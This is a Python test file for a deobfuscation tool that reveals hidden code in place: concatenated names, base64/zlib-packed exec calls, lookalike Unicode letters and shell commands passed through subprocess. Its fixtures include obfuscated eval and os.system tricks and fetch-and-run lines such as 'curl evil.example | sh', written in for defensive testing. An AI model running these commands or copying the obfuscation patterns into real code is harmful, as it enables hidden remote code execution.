"""Masks come off in place: every line stays where it is, and what was hidden is told with how."""

from __future__ import annotations

import base64
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from packtool.code import Layer, Module, Reading, Unmasked, parse, unmask


def unmasked(source: str) -> Unmasked:
    module = parse(source.encode(), "a.py")
    assert isinstance(module, Module), module
    found = unmask(Reading(module))
    assert found.source.count("\n") == source.count("\n")
    return found


def one_layer(source: str) -> Layer:
    (layer,) = unmasked(source).layers
    return layer


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("x = 'ht' + 'tps://h'", "x = 'https://h'"),
        ("x = 'plain'", "x = 'plain'"),
        ("x = f'plain'", "x = f'plain'"),
        ("f = getattr(thing, 'sys' + 'tem')\nf('ls')", "f = getattr(thing, 'system')\nf('ls')"),
        ("f = getattr(os, 'sys' + 'tem')\nf('ls')", "f = os.system\nos.system('ls')"),
        ("import os\nf = getattr(os, 'sys' + 'tem')\nf('ls')", "import os\nf = os.system\nos.system('ls')"),
        ("import os as o\no.system('ls')", "import os as o\no.system('ls')"),
        ("import os\ny = os\ny.system('ls')", "import os\ny = os\nos.system('ls')"),
        ("__import__('o' 's').system('ls')", "os.system('ls')"),
        ("x = __import__('os')", "x = __import__('os')"),
        ("return_ = [lambda:exec][0]", "return_ = [lambda:exec][0]"),
        ("def f():\n    return(__import__('os').system)('x')", "def f():\n    return(os.system)('x')"),
        ("import os\nT = {'a': os.system}\nT['a']('x')", "import os\nT = {'a': os.system}\nos.system('x')"),
        ("import ctypes\nctypes.CDLL(None)['system'](1)", "import ctypes\nctypes.CDLL(None)['system'](1)"),
        ("vars(__builtins__)['ev' + 'al']('1')", "eval('1')"),
        (
            "import functools, os\nfunctools.partial(os.system, 'x')()",
            "import functools, os\nos.system('x')",
        ),
        ("x = ''.join(map(chr, [101, 118, 97, 108]))", "x = __packtool_decoded__('eval')"),
        ("x = '\\x65\\x76\\x61\\x6c'", "x = __packtool_decoded__('eval')"),
        ("x = '\\x1b[0m'", "x = '\\x1b[0m'"),
        ("x = b'\\x00\\x01'", "x = b'\\x00\\x01'"),
        ("\U0001d626val('1')", "eval('1')"),
        ("import os\nos.\U0001d634ystem('1')", "import os\nos.system('1')"),
        ("x = {'\u00e9': os.name}", "x = {'\u00e9': os.name}"),
        (
            "from pathlib import Path\nx = str(Path.home()) + '/x'",
            "from pathlib import Path\nx = str(Path.home()) + '/x'",
        ),
    ],
)
def test_what_stands_there_afterwards(source: str, expected: str) -> None:
    assert unmasked(source).source == expected


def test_lines_stay_true() -> None:
    source = "x = ('a'\n  + 'b')\nimport os\ngetattr(\n  os,\n  'sys' +\n  'tem'\n)('ls')\ny = 1\n"
    lines = unmasked(source).source.split("\n")
    assert lines[2] == "import os"
    assert lines[3].startswith("(os.system")
    assert lines[8] == "y = 1"


def test_what_is_decoded_is_marked_and_told() -> None:
    code = "import os; os.system('curl evil.example | sh')"
    packed = base64.b64encode(zlib.compress(code.encode())).decode()
    found = unmasked(f"import base64, zlib\n\nexec(zlib.decompress(base64.b64decode('{packed}')))\n")
    assert found.source.split("\n")[2] == f"exec(__packtool_decoded__({code.encode()!r}))"
    outer, inner = found.layers
    assert (outer.line, outer.column, outer.language, outer.depth) == (3, 1, "python", 1)
    assert (outer.how, outer.text) == (("base64", "decompressed", "given to exec"), code)
    assert (inner.line, inner.text, inner.language, inner.depth) == (3, "curl evil.example | sh", "shell", 2)
    assert inner.how == ("base64", "decompressed", "given to exec", "given to os.system")


def test_layers_in_layers_end() -> None:
    code = "print('the innermost')"
    for _ in range(9):
        code = f"exec(__import__('base64').b64decode('{b64(code)}'))"
    layers = unmasked(code).layers
    assert [layer.depth for layer in layers] == [1, 2, 3, 4, 5]


def test_a_decoded_name_is_marked_where_it_is_used() -> None:
    source = f"import base64\nX = base64.b64decode('{b64('print(1)')}')\ndef f():\n    exec(X)\n"
    assert unmasked(source).source.split("\n")[3] == "    exec(__packtool_decoded__(b'print(1)'))"


@pytest.mark.parametrize(
    ("source", "text", "how", "language"),
    [
        ("exec('import os')", "import os", ("given to exec",), "python"),
        ("eval('1 + 1 + 1')", "1 + 1 + 1", ("given to eval",), "python"),
        ("import os\nos.system('rm -rf /tmp/x')", "rm -rf /tmp/x", ("given to os.system",), "shell"),
        ("import subprocess as s\ns.run(['bash', '-c', 'curl a|sh'])", "curl a|sh", ("given to bash -c",), "shell"),
        ("import subprocess as s\ns.run('curl a|sh', shell=True)", "curl a|sh", ("given to subprocess.run",), "shell"),
        (
            "import subprocess as s\ns.run(['/usr/bin/python3', '-c', 'print(1)'])",
            "print(1)",
            ("given to python3 -c",),
            "python",
        ),
        ("import os\nos.execvp('sh', ['sh', '-c', 'echo x > y'])", "echo x > y", ("given to sh -c",), "shell"),
        (
            "import subprocess as s\ns.run([node, 'node', '-e', 'eval(x)'])",
            "eval(x)",
            ("given to node -e",),
            "javascript",
        ),
        (
            f"import base64\nx = base64.b64decode('{b64('https://h.example/x')}')",
            "https://h.example/x",
            ("base64",),
            "url",
        ),
        ("x = 'tpircs'[::-1]", "script", ("reversed",), "text"),
    ],
)
def test_layers(source: str, text: str, how: tuple[str, ...], language: str) -> None:
    layer = one_layer(source)
    assert (layer.text, layer.how, layer.language) == (text, how, language)


@pytest.mark.parametrize(
    "source",
    [
        "x = 'a' + 'b'",
        "import subprocess\nsubprocess.run('/bin/sh')",
        "import base64\nx = base64.b64decode('AAECAwQFBgcICQ==')",
        "x = chr(10).join(['a', 'b'])",
        "def name(x): return 'my-' + x\ny = name('tool') + '-and-more'",
    ],
)
def test_everyday_code_has_no_layers(source: str) -> None:
    assert unmasked(source).layers == ()


def test_letters_in_a_layer_are_plain_too() -> None:
    assert one_layer("exec('import os; \U0001d45c\U0001d460.system(x)')").text == "import os; os.system(x)"


def test_many_layers_are_bounded() -> None:
    source = "import os\n" + "".join(f"os.system('echo number {index}')\n" for index in range(1000))
    assert len(unmasked(source).layers) == 200


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="ab'\"+[]()fx:\n =\\{}.,os1\u00e9", max_size=60))
def test_any_source_keeps_its_lines(source: str) -> None:
    module = parse(source.encode(), "a.py")
    if isinstance(module, Module):
        found = unmask(Reading(module))
        assert found.source.count("\n") == module.text.count("\n")
        assert isinstance(parse(found.source.encode(), "a.py"), Module)


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import os; os.getpid()'])",
        "import subprocess, sys\nW = [sys.executable, '-u', '-c', 'import os; os.getpid()']\nsubprocess.Popen(W)",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import os; os.getpid()', sys.argv[0]])",
        "import subprocess, sys\nsubprocess.run([sys.executable], input='import os; os.getpid()', text=True)",
        "import subprocess\nsubprocess.run(['python3', '-'], input=b'import os; os.getpid()')",
    ],
)
def test_code_for_an_interpreter_is_a_layer_whatever_else_of_the_command_is_unknown(source: str) -> None:
    layer = one_layer(source)
    assert (layer.text, layer.language) == ("import os; os.getpid()", "python")


def test_what_a_program_of_the_plugin_reads_is_no_code() -> None:
    assert (
        unmasked("import subprocess\nsubprocess.run(['python3', 'a.py'], input='import os; os.getpid()')").layers == ()
    )
